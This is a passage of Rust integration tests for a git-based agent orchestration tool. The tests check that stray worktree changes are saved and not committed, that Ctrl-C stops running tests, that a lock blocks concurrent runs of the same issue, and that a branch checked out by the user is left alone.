    // Behind the tool's back: a stray test that fails, and a change staged in its index.
    std::fs::write(worktree.join("tests/stray.sh"), "exit 1\n").unwrap();
    std::fs::write(worktree.join("README.md"), "# Widget\n\nStaged by hand.\n").unwrap();
    git_in_worktree(&repo, &["add", "README.md"]);

    // The impl stage again, with an agent adding another function and its test.
    let agent = agent(
        &repo,
        "agent",
        "printf 'pub fn loud() -> bool {\\n    true\\n}\\n' >> src/lib.rs\necho \"grep -q 'fn loud' src/lib.rs\" > tests/loud.sh",
    );
    let run = repo.run(&[
        "7",
        "--until",
        "impl",
        "--resume-from",
        "impl",
        "-c",
        &format!("stages.impl.implementer={agent}"),
    ]);
    // The baseline did not see the stray test: no false red baseline, one passing commit
    // without the stray changes.
    run.expect_code(0).stderr_has(
        "the worktree held changes made outside any run (by hand, or by another program); they are saved in",
    );
    assert!(!run.stderr.contains("already fail"), "{}", run.stderr);
    assert_eq!(repo.rev(&format!("{BRANCH}~1")), first);
    assert_eq!(repo.subjects(BRANCH)[0], IMPL_SUBJECT);
    assert_eq!(
        changed(&repo, BRANCH),
        ["docs/reports/7.md", "src/lib.rs", "tests/loud.sh"]
    );
    assert_eq!(worktree_status(&repo), "");

    // Both stray changes are saved, where the run said.
    let saved: Vec<_> = files_under(&repo.root.join(".git/orchestrate/recovered/7"))
        .into_iter()
        .filter(|(path, _)| path.contains("/impl-worktree-"))
        .collect();
    let file = |name: &str| {
        saved
            .iter()
            .find(|(path, _)| path.ends_with(name))
            .unwrap_or_else(|| panic!("{name} is not saved: {saved:?}"))
    };
    assert_eq!(file("/tests/stray.sh").1, "exit 1\n");
    assert_eq!(file("/README.md").1, "# Widget\n\nStaged by hand.\n");
    assert!(file("/COMMIT_MESSAGE").1.contains("made outside any run"));
    let dir = Path::new(&file("/README.md").0).parent().unwrap();
    run.stderr_has(&dir.display().to_string());
}

/// `git` in the issue's worktree, with the test's environment.
fn git_in_worktree(repo: &TestRepo, args: &[&str]) -> String {
    let mut cmd = Command::new("git");
    repo.apply_env(&mut cmd);
    let out = cmd.args(args).current_dir(worktree(repo)).output().unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim_end().to_string()
}

#[test]
fn ctrl_c_while_the_tests_run_stops_them_and_leaves_the_branch_as_it_was() {
    let (repo, issue) = impl_repo(&by_round(&[GOOD_EDIT]), "");
    let ticks = repo.logs.join("tests.ticks");
    let marker = repo.logs.join("tests-started");
    check_with(
        &repo,
        &format!(
            "if grep -q verbose src/lib.rs; then\n  {}\n  touch \"{}\"\n  wait\nfi",
            ticker(&ticks),
            marker.display()
        ),
    );
    let mut child = spawn(&repo, &["7", "--issue-file", &issue, "--until", "impl"]);
    wait_for(&marker, &mut child);
    let before = repo.rev(BRANCH);
    kill(Pid::from_raw(child.id() as i32), Signal::SIGINT).unwrap();
    let started = Instant::now();
    let run = finish(child);
    assert!(started.elapsed() < Duration::from_secs(20));
    run.expect_code(130);
    assert_stopped(&ticks);
    assert_eq!(repo.rev(BRANCH), before);
    assert_eq!(repo.subjects(BRANCH)[0], SPEC_SUBJECT);
}

#[test]
fn a_second_run_of_the_same_issue_stops_at_the_lock_and_the_first_completes() {
    let go = "$LOG/go";
    let body = format!(
        "touch \"$LOG/implementing\"\nwhile [ ! -f \"{go}\" ]; do sleep 0.05; done\n{}",
        by_round(&[GOOD_EDIT])
    );
    let (repo, issue) = impl_repo(&body, "");
    let mut first = spawn(&repo, &["7", "--issue-file", &issue, "--until", "impl"]);
    wait_for(&repo.logs.join("implementing"), &mut first);
    let second = run_issue(&repo, &issue);
    std::fs::write(repo.logs.join("go"), "").unwrap();
    second
        .expect_code(1)
        .stderr_has("issue #7 is already being worked on by another git orchestrate run");
    finish(first)
        .expect_code(0)
        .stderr_has("stopped after impl");
    assert_eq!(repo.subjects(BRANCH)[0], IMPL_SUBJECT);
    assert_eq!(impl_calls(&repo).len(), 1);
}

/// A script printing what describes the checkout it runs in (as [`TestRepo::checkout_state`]).
const STATE: &str = "git rev-parse HEAD; git symbolic-ref -q HEAD; git status --porcelain=v1 --untracked-files=all --ignored; git diff; git diff --cached; git ls-files --stage";

#[test]
fn the_issue_branch_checked_out_with_work_during_impl_is_left_alone() {
    // The implementer (a `cmd:` model, running in the user's checkout) checks the branch out
    // there and starts working on it, as a user might, before it answers.
    let body = format!(
        "git switch -q {BRANCH} >&2\necho 'my work' >> README.md\ngit add README.md\necho 'more' >> src/lib.rs\necho 'draft' > notes.txt\n({STATE}) > \"$LOG/state-before\" 2>&1\n{}",
        by_round(&[GOOD_EDIT])
    );
    let (repo, issue) = impl_repo(&body, "");
    let run = run_issue(&repo, &issue);
    run.expect_code(1)
        .stderr_has(&format!(
            "{BRANCH} was checked out in {} during the run",
            repo.root.display()
        ))
        .stderr_has("the impl commit is saved in");
    assert_eq!(repo.subjects(BRANCH)[0], SPEC_SUBJECT);

    let mut cmd = Command::new("sh");
    repo.apply_env(&mut cmd);
    let now = cmd
        .args(["-c", &format!("({STATE}) 2>&1")])
        .current_dir(&repo.root)
        .output()
        .unwrap();
    let before = std::fs::read_to_string(repo.logs.join("state-before")).unwrap();
    assert_eq!(String::from_utf8_lossy(&now.stdout), before);
    assert!(before.contains("M  README.md"), "{before}");
    assert!(repo.read("src/lib.rs").ends_with("more\n"));
    assert_eq!(repo.read("notes.txt"), "draft\n");
}
